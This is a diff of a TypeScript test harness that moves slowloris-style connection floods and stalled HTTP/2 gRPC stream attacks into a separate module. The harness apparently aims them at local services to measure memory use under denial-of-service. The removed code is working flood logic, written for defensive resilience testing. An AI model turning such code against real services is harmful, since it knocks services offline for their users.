@@ -1,17 +1,4 @@
-import { connect as connectHttp2 } from 'node:http2';
-import { connect, type Socket } from 'node:net';
-import { setTimeout as sleep } from 'node:timers/promises';
-
-/** Where the services listen. */
-export interface Ports {
-  httpA: number;
-  httpB: number;
-  adminB: number;
-  grpcA: number;
-}
-
-/** Attacks until `until`, a Unix time in ms. */
-type Attack = (ports: Ports, until: number) => Promise<unknown>;
+import { type Attack, raw, streams } from './attack.ts';
 
 export interface Door {
   /** The service whose memory is measured, and the port that honest callers use. */
@@ -23,78 +10,6 @@ export interface Door {
 const request = (method: string, path: string, headers = ''): string =>
   `${method} ${path} HTTP/1.1\r\nHost: a\r\n${headers}\r\n`;
 const json = 'Content-Type: application/json\r\n';
-
-interface Raw {
-  port: keyof Ports;
-  connections: number;
-  /** Sent at once, then `more` again and again, with a pause in ms between. */
-  first: string | Buffer;
-  more?: string | Buffer;
-  pause?: number;
-  reads?: boolean;
-}
-
-/** Opens connections, and a new one for each that is closed. */
-const raw = ({ port, connections, first, more, pause = 0, reads = false }: Raw): Attack => {
-  return async (ports, until) => {
-    const once = (): Promise<void> =>
-      new Promise((resolve) => {
-        const socket: Socket = connect(ports[port], '127.0.0.1', async () => {
-          socket.write(first);
-          while (more && !socket.destroyed && Date.now() < until) {
-            if (!socket.write(more)) await new Promise((drained) => setTimeout(drained, 50));
-            await sleep(pause);
-          }
-        });
-        const end = setTimeout(() => socket.destroy(), until - Date.now());
-        socket
-          .on('error', () => {})
-          .once('close', () => {
-            clearTimeout(end);
-            resolve();
-          });
-        if (reads) socket.resume();
-        else socket.pause();
-      });
-    const keepOpen = async (): Promise<void> => {
-      while (Date.now() < until) {
-        await once();
-        await sleep(250);
-      }
-    };
-    await Promise.all(Array.from({ length: connections }, keepOpen));
-  };
-};
-
-interface Streams {
-  path: string;
-  body: Buffer;
-  sessions: number;
-  streams: number;
-  window?: number;
-}
-
-/** Opens streams that are neither finished nor read, again and again. */
-const streams = ({ path, body, sessions, streams: count, window = 0 }: Streams): Attack => {
-  const headers = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc' };
-  return async ({ grpcA }, until) => {
-    while (Date.now() < until) {
-      const opened = Array.from({ length: sessions }, () =>
-        connectHttp2(`http://127.0.0.1:${grpcA}`, { settings: { initialWindowSize: window } }),
-      );
-      for (const session of opened) {
-        session.on('error', () => {});
-        for (let n = 0; n < count; n++) {
-          if (session.destroyed) break;
-          const stream = session.request(headers, { endStream: false }).on('error', () => {});
-          stream.write(body);
-        }
-      }
-      await sleep(Math.min(2000, Math.max(0, until - Date.now())));
-      for (const session of opened) session.destroy();
-    }
-  };
-};
 
 const stalled = Buffer.alloc(16_388);
 stalled.writeUInt32BE(16_384, 1); // the length of a message whose last byte never arrives
